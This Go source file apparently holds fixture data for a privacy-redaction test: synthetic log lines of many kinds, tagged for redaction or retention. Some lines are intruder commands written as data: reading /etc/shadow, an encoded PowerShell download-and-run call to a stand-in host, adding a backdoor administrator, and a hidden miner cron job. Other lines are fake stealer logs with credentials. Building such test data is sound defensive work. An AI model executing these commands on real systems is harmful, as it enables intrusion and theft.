package privacy

// unseenLogs are lines of machines: SIEM, sign-in logs, Sysmon, proxies, mail
// gateways, health records and stealer logs.
const unseenLogs = `
=== siem-leef en
LEEF:2.0|Vendor|EDR|4.1|LoginFail|usrName=⟦r:pkaminski⟧	src=⟦k:203.0.113.52⟧	dst=10.20.0.4	msg=bad password
=== siem-cef en
CEF:0|Acme|Mail|2|77|Phish blocked|8|suser=⟦k:billing@zahlung-portal.example⟧ duser=⟦r:birgit.ehlers@stahlbau.example⟧ fname=⟦k:Rechnung_0412.iso⟧
=== siem-splunk en
index=wineventlog EventCode=4624 Logon_Type=10 Account_Name=⟦r:rtorvalsen⟧ Source_Network_Address=⟦k:198.51.100.77⟧
=== siem-splunk en
index=auth action=failure user=⟦k:Administrator⟧ src=⟦k:198.51.100.78⟧ count=4411
=== siem-elastic en
{"@timestamp":"2026-04-02T07:11:02Z","user":{"name":"⟦r:cvandenberg⟧","domain":"CORP"},"source":{"ip":"⟦k:203.0.113.15⟧"},"event":{"action":"logged-in"}}
=== sysmon en
EventID: 1 Image: C:\Users\⟦r:aleksandra.w⟧\Downloads\⟦k:setup_teams.exe⟧ CommandLine: "setup_teams.exe /S" User: LAPTOP\⟦r:aleksandra.w⟧ ParentImage: C:\Windows\explorer.exe
=== sysmon en
EventID: 11 TargetFilename: C:\Users\Public\Libraries\⟦k:svc_host32.dll⟧ User: NT AUTHORITY\⟦k:SYSTEM⟧
=== sysmon en
EventID: 3 Image: C:\Users\⟦r:mduarte⟧\AppData\Local\Temp\⟦k:7z.exe⟧ User: FIN\⟦r:mduarte⟧ DestinationIp: ⟦k:203.0.113.144⟧ DestinationPort: 443
=== okta en
{"actor":{"type":"User","alternateId":"⟦r:wanjiru.k@savanna-air.example⟧","displayName":"⟦r:Wanjiru Kamau⟧"},"client":{"ipAddress":"⟦k:198.51.100.200⟧"},"outcome":{"result":"FAILURE","reason":"INVALID_CREDENTIALS"}}
=== azure en
{"userPrincipalName":"⟦r:lotte.hansen@kommune.example⟧","userDisplayName":"⟦r:Lotte Hansen⟧","ipAddress":"⟦k:203.0.113.99⟧","appDisplayName":"Office 365 Exchange Online","status":{"errorCode":50126}}
=== azure en
SigninLogs | where UserPrincipalName == "⟦r:tjackson@hospital.example⟧" | project IPAddress
=== aws en
{"eventName":"ConsoleLogin","userIdentity":{"arn":"arn:aws:iam::111122223333:user/⟦r:bruno.teixeira⟧"},"sourceIPAddress":"⟦k:198.51.100.31⟧"}
=== aws en
arn:aws:sts::111122223333:assumed-role/Admin/⟦r:yuki.hayashi⟧ called GetSecretValue from ⟦k:203.0.113.222⟧
=== gcp en
protoPayload.authenticationInfo.principalEmail="⟦r:omar.farouk@delta-bank.example⟧" callerIp="⟦k:203.0.113.9⟧"
=== sshd en
sshd[882]: Invalid user ⟦k:oracle⟧ from ⟦k:198.51.100.12⟧ port 51122
=== sshd en
sshd[883]: Accepted password for ⟦r:ghernandez⟧ from ⟦k:198.51.100.12⟧ port 51130 ssh2
=== sudo en
Jun  3 02:11:40 db2 sudo:   ⟦r:nkowalczyk⟧ : TTY=pts/1 ; PWD=/home/⟦r:nkowalczyk⟧ ; USER=root ; COMMAND=/bin/cat /etc/shadow
=== auditd en
type=USER_AUTH msg=audit(1717380700.001:99): pid=311 acct="⟦r:mfischl⟧" exe="/usr/bin/su" terminal=pts/0 res=failed
=== apache en
⟦k:203.0.113.4⟧ - ⟦r:lbianchi⟧ [10/Mar/2026:13:55:36 +0000] "GET /private/report.pdf HTTP/1.1" 200 2326
=== nginx en
⟦k:198.51.100.6⟧ - - [12/Mar/2026:01:02:03 +0000] "GET /reset?mail=⟦r:heidi.krause%40webpost.example⟧&token=⟦r:8f2d11ac09be77d1⟧ HTTP/1.1" 302 0
=== nginx en
"GET /wp-login.php HTTP/1.1" 404 from ⟦k:192.0.2.190⟧ agent ⟦k:"Mozilla/5.0 zgrab/0.x"⟧
=== proxy en
1717382211.102 211 10.3.4.5 TCP_MISS/200 4411 GET ⟦k:http://update-flash.example/x.bin⟧ ⟦r:jroberts⟧ DIRECT/203.0.113.70
=== postfix en
postfix/smtpd[1201]: NOQUEUE: reject: RCPT from unknown[⟦k:203.0.113.65⟧]: 550 5.1.1; from=<⟦k:promo@win-prize.example⟧> to=<⟦r:carmen.iglesias@ayto.example⟧> proto=ESMTP
=== postfix en
postfix/qmgr[33]: 4F2A1: from=<⟦k:bounce@mass-post.example⟧>, size=4412, nrcpt=1 (queue active)
=== exchange en
RECEIVE SMTP sender-address=⟦k:cfo@exec-wire.example⟧ recipient-address=⟦r:ap.lindqvist@nordbygg.example⟧ message-subject="Urgent wire"
=== dhcp en
dnsmasq-dhcp: DHCPACK(wlan0) 192.168.8.31 ⟦r:f0:18:98:3c:77:1d⟧ ⟦r:Ingrids-iPhone⟧
=== dhcp en
lease 10.0.5.8 hw ethernet ⟦r:3c:22:fb:90:11:02⟧ client-hostname "⟦r:MacBook-Pro-von-Dieter⟧"
=== radius en
Login OK: [⟦r:stina.holm⟧/<via Auth-Type = eap>] (from client wlc1 port 0 cli ⟦r:88-66-5A-01-02-33⟧)
=== kerberos en
krb5kdc[99]: TGS_REQ ⟦r:hpark⟧@REALM.EXAMPLE for host/files.realm.example@REALM.EXAMPLE
=== vpn en
openvpn[9]: ⟦r:j.weatherby⟧/⟦k:203.0.113.18⟧:50122 MULTI: Learn: 10.8.0.6
=== vpn en
GlobalProtect gateway: portal-auth success, user "⟦r:mmbeki⟧", from ⟦k:198.51.100.90⟧, device "⟦r:Thandis-ThinkPad⟧"
=== rdp en
Event 1149: Remote Desktop Services: User authentication succeeded: User: ⟦r:qbertrand⟧ Domain: SITE Source Network Address: ⟦k:203.0.113.83⟧
=== ftp en
vsftpd: [⟦r:k.olesen⟧] OK LOGIN: Client "⟦k:203.0.113.61⟧"
=== ftp en
proftpd: USER ⟦k:anonymous⟧: Login successful from ⟦k:203.0.113.62⟧
=== git en
commit 4be1 by ⟦r:Radoslav Petkov⟧ <⟦r:r.petkov@softhouse.example⟧> added the leaked key ⟦r:AKIAQXZ7EXAMPLEK3YPT⟧
=== env en
DB_USER=app
DB_PASSWORD=⟦r:tr0mbone-Lake-91⟧
STRIPE_KEY=⟦r:sk_live_4eC39HqLyjWDarjtT1zdp7dc⟧
=== http en
POST /api/login HTTP/1.1
Authorization: Basic ⟦r:aGFubmE6V2ludGVyMjAyMyE=⟧
X-Forwarded-For: ⟦k:203.0.113.21⟧
=== http en
Authorization: Bearer ⟦r:eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJqLmRvZSJ9.c2lnbmF0dXJlMTIzNDU2⟧
=== http en
Cookie: PHPSESSID=⟦r:q8s7d6f5g4h3j2k1l0⟧; lang=de
=== hl7 en
PID|1||⟦r:7781204⟧^^^HOSP||⟦r:NDLOVU^SIPHO^T⟧||⟦r:19710923⟧|M|||⟦r:12 Jacaranda Ave^^Durban^^4001⟧||⟦r:+27315550133⟧
=== hl7 en
OBX|1|ST|DIAG||⟦r:bipolar disorder⟧||||||F
NK1|1|⟦r:NDLOVU^NOMSA⟧|SPO
=== dicom en
(0010,0010) PN [⟦r:FERRARI^LUCIA⟧] (0010,0030) DA [⟦r:19880214⟧] (0010,0020) LO [⟦r:PX-22841⟧]
=== stealer en
URL: https://mail.example/login
USER: ⟦r:annika.strand@postbox.example⟧
PASS: ⟦r:Kanelbulle77⟧
Application: Chrome
=== stealer en
Soft: Firefox
Host: https://bank.example
Login: ⟦r:p.novotny⟧
Password: ⟦r:Slavia1892⟧
=== stealer en
PC Name: ⟦r:DESKTOP-MARIANA⟧
User: ⟦r:Mariana⟧
IP: ⟦r:198.51.100.201⟧
Build: ⟦k:lumma_v4⟧
=== stealer en
[autofill] name=⟦r:Ottavia Greco⟧ tel=⟦r:+39 06 5550 0123⟧ card=⟦r:4532015112830366⟧
=== combolist en
⟦r:kees.vermeer@thuisnet.example⟧:⟦r:Feyenoord1908⟧
⟦r:dagmar.holub@domov.example⟧;⟦r:kocicka⟧
=== dump en
id,first_name,last_name,email,phone
1,⟦r:Bronwyn⟧,⟦r:Llewellyn⟧,⟦r:b.llewellyn@valleys.example⟧,⟦r:+441632960551⟧
2,⟦r:Emeka⟧,⟦r:Okoro⟧,⟦r:emeka.o@lagosnet.example⟧,⟦r:+2348015550142⟧
=== dump en
INSERT INTO users VALUES (12,'⟦r:mthompson⟧','⟦r:5f4dcc3b5aa765d61d8327deb882cf99⟧','⟦r:m.thompson@fastmail.example⟧');
=== dump en
{"customer":{"firstName":"⟦r:Aurélie⟧","lastName":"⟦r:Besson⟧","birthDate":"⟦r:1979-11-30⟧","iban":"⟦r:FR1420041010050500013M02606⟧"}}
=== dump en
<person><name>⟦r:Ewan McAllister⟧</name><nino>⟦r:QQ123456C⟧</nino><nhs>⟦r:943 476 5919⟧</nhs></person>
=== dump en
fullname: ⟦r:CHIDI EZE⟧ | ssn: ⟦r:078-05-1120⟧ | dob: ⟦r:04/17/1966⟧ | mmn: ⟦r:Adeyemi⟧
=== firewall en
DROP IN=eth0 SRC=⟦k:203.0.113.200⟧ DST=192.0.2.10 PROTO=TCP SPT=44211 DPT=445
=== dns en
client 10.1.2.3#53122 (⟦k:a7f3.tunnel-exfil.example⟧): query: ⟦k:a7f3.tunnel-exfil.example⟧ IN TXT
=== ids en
[1:2029999:2] ET MALWARE ⟦k:Dridex⟧ CnC Beacon [**] {TCP} 10.0.0.8:50211 -> ⟦k:203.0.113.150⟧:443
=== edr en
Detection: ⟦k:Trojan:Win32/Emotet.PA!MTB⟧ on host ⟦r:SARAH-LAPTOP⟧, user ⟦r:sarah.whitcombe⟧, quarantined
=== powershell en
powershell -enc ⟦k:aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAGEAKQA=⟧ started by HR\⟦r:dmoreau⟧
=== powershell en
net user ⟦k:svc_backup2⟧ ⟦k:P@ss-h4x0r!⟧ /add && net localgroup administrators svc_backup2 /add   (typed by the intruder)
=== mdm en
Device: iPhone 15, owner ⟦r:Joanna Lis⟧, IMEI ⟦r:352561000000005⟧, serial ⟦r:F17XK2ABCD12⟧
=== telco en
CDR: MSISDN ⟦r:+48 600 555 012⟧ (victim) called by ⟦k:+44 7700 900 123⟧ (spoofed), IMSI ⟦r:260021234567890⟧
=== teams en
Teams external chat from "⟦k:Help Desk (External)⟧" <⟦k:helpdesk@securityadmin.onmicrosoft.example⟧> to ⟦r:petra.novak@energo.example⟧
=== saml en
<saml:NameID>⟦r:gwilliams@uni.example⟧</saml:NameID><saml:Attribute Name="displayName"><saml:AttributeValue>⟦r:Gwen Williams⟧</saml:AttributeValue></saml:Attribute>
=== ldap en
dn: CN=⟦r:Henrik Dahlgren⟧,OU=Staff,DC=corp,DC=example
sAMAccountName: ⟦r:hdahlgren⟧
mail: ⟦r:henrik.dahlgren@corp.example⟧
=== crontab en
*/5 * * * * /home/⟦r:iwood⟧/.cache/⟦k:.kworkerd⟧ -o ⟦k:pool.miner-x.example:3333⟧ -u ⟦k:49mineRwalletXq⟧
=== exif en
Artist: ⟦r:Dolores Fuentes⟧; GPS Position: ⟦r:37.38283, -5.97317⟧; Serial Number: ⟦r:042021004411⟧
=== docmeta en
Author: ⟦k:Win7-Builder⟧ LastModifiedBy: ⟦k:dropper_kid⟧ Title: ⟦k:Invoice April⟧ (metadata of the malicious document)
=== urlscan en
page ⟦k:https://login-mfa.example/o365/?u=⟧⟦r:am9hbm5hLmxpc0BlbmVyZ28uZXhhbXBsZQ==⟧
`
